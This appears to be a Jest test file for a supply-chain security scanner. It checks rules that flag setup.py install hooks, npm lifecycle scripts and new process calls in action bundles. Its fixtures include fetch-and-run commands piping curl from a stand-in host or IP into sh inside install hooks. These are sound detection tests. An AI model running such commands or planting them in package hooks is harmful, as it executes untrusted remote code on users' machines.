// Code that runs without being called: install commands of setup.py, npm
// lifecycle scripts, and new process sinks in an action's committed bundle.
import { describe, expect, it } from '@jest/globals';
import { expectFires, expectQuiet } from '../helpers/rules';
import { added, file, severities } from './helpers';

describe('code/install-hook', () => {
  const HOOK =
    'from setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n{BODY}\n\nsetup(name="pkg", cmdclass={"install": PostInstall})';

  it('fires high when the install command downloads or hides what it runs', () => {
    const f = added('setup.py', HOOK.replace('{BODY}', '        os.system("curl -s https://203.0.113.7/x | sh")'));
    expectFires(f, 'code/install-hook', 3);
    expect(severities(f, 'code/install-hook')).toEqual(['high', 'high', 'high']);
  });

  it('fires medium on a new install override, low on one already in a tree (astropy installs stubs)', () => {
    const body = '        install_stubs(self.build_lib, self.root)';
    expect(severities(added('setup.py', HOOK.replace('{BODY}', body)), 'code/install-hook')).toEqual([
      'medium',
      'medium'
    ]);
    expect(severities(file('setup.py', HOOK.replace('{BODY}', body)), 'code/install-hook')).toEqual(['low', 'low']);
  });

  it('fires on npm lifecycle scripts, high when the script fetches or decodes', () => {
    const pkg = (k: string, v: string) => `{\n  "name": "ext",\n  "scripts": {\n    "${k}": "${v}"\n  }\n}`;
    expect(severities(added('package.json', pkg('preinstall', 'node setup_bun.js')), 'code/install-hook')).toEqual([
      'medium'
    ]);
    expect(
      severities(
        added('package.json', pkg('postinstall', 'curl -s http://evil.example/x.sh | sh')),
        'code/install-hook'
      )
    ).toEqual(['high']);
    expect(
      severities(file('package.json', pkg('postinstall', 'node scripts/ensure-buildutils.js')), 'code/install-hook')
    ).toEqual(['low']);
  });

  it("fires medium when setup.py installs git hooks on the builder's machine, saying under which argv test", () => {
    const body =
      'import subprocess, sys\nif \'develop\' in sys.argv or any(a.startswith(\'bdist\') for a in sys.argv):\n    import setuptools\n    subprocess.run([sys.executable, "-m", "pre_commit", "install"])\n    subprocess.run(\n        [sys.executable, "-m", "pre_commit", "install", "--hook-type", "pre-push"]\n    )\nsetup(name=\'pkg\')';
    for (const f of [file('setup.py', body), added('setup.py', body)]) {
      expectFires(f, 'code/install-hook', 2);
      expect(severities(f, 'code/install-hook')).toEqual(['medium', 'medium']);
      const hit = f.find((x) => x.ruleId === 'code/install-hook')!;
      expect(hit.message).toContain('`pre_commit install`');
      expect(hit.message).toContain("under `if 'develop' in sys.argv");
    }
    // The added lines alone (the argv test is context): still medium, by what runs.
    const lines = added('setup.py', '    subprocess.run([sys.executable, "-m", "pre_commit", "install"])');
    expect(severities(lines, 'code/install-hook')).toEqual(['medium']);
    expect(
      severities(added('setup.py', 'os.system("git config --global core.hooksPath .githooks")'), 'code/install-hook')
    ).toEqual(['medium']);
  });

  it('judges the process calls of build helpers: git hooks medium, an argv-guarded call low, local build steps quiet', () => {
    const helper =
      'import subprocess, sys\ndef run(cmd):\n    subprocess.check_call(cmd)\nif "develop" in sys.argv:\n    subprocess.check_call(["npm", "run", "build"])\n    subprocess.call(["pre-commit", "install"])\nsubprocess.check_call(["jlpm", "install"])\nv = subprocess.check_output(["git", "describe", "--tags"])';
    expect(severities(file('setupbase.py', helper), 'code/install-hook')).toEqual(['low', 'medium']);
    expect(severities(added('hatch_build.py', helper), 'code/install-hook')).toEqual(['low', 'medium']);
    expectQuiet(
      file('setupbase.py', 'import subprocess\ndef js():\n    subprocess.check_call(["jlpm", "build"])'),
      'code/install-hook'
    );
  });

  it('stays quiet on the version lookups and local build steps of real setup.py files', () => {
    const version =
      "import subprocess, sys\nif len(sys.argv) >= 2 and sys.argv[1] in ('sdist', 'bdist_wheel', 'install'):\n    GIT_REVISION = subprocess.check_output(['git', 'rev-parse', 'HEAD']).strip()\n    out = subprocess.Popen(['git', 'describe', '--tags', '--dirty'], stdout=subprocess.PIPE).communicate()[0]\n    subprocess.check_call([sys.executable, os.path.join('tools', 'cythonize.py'), 'numpy/random'])\nsetup(name='pkg', extras_require={'dev': ['pre-commit']})";
    expectQuiet(file('setup.py', version), 'code/install-hook');
    expectQuiet(added('setup.py', version), 'code/install-hook');
  });

  it('is quiet on setup.py without hooks and on package.json build scripts', () => {
    const found1 = file(
      'setup.py',
      'from setuptools import setup\nsetup(name="pkg", cmdclass={"build_ext": BuildExt})\nver = subprocess.check_output(["git", "describe"])'
    );
    expectQuiet(found1, 'code/install-hook');
    const found2 = file('package.json', '{"scripts": {"build": "tsc", "test": "jest"}}');
    expectQuiet(found2, 'code/install-hook');
  });
});

describe('code/dist-exec-sink', () => {
  const before = '"use strict";\nconst cp = require("child_process");\nfunction run(c) { return cp.execSync(c); }\n';

  it('fires when a change adds a new process call to dist/index.js', () => {
    const f = added('dist/index.js', "function updateFeatures() { cp.spawnSync('bash', ['-c', 'echo hi']); }", before);
    expectFires(f, 'code/dist-exec-sink', 1);
    expect(severities(f, 'code/dist-exec-sink')).toEqual(['high']);
  });

  it('is quiet when the sink was already in the bundle, and in tree mode', () => {
    const found3 = added('dist/index.js', 'function run(c) { return cp.execSync(c); }', before);
    expectQuiet(found3, 'code/dist-exec-sink');
    const found4 = file('dist/index.js', before);
    expectQuiet(found4, 'code/dist-exec-sink');
  });

  it('counts every sink at medium when the old bundle is not given', () => {
    expect(severities(added('dist/index.js', 'cp.execSync(cmd);'), 'code/dist-exec-sink')).toEqual(['medium']);
  });
});
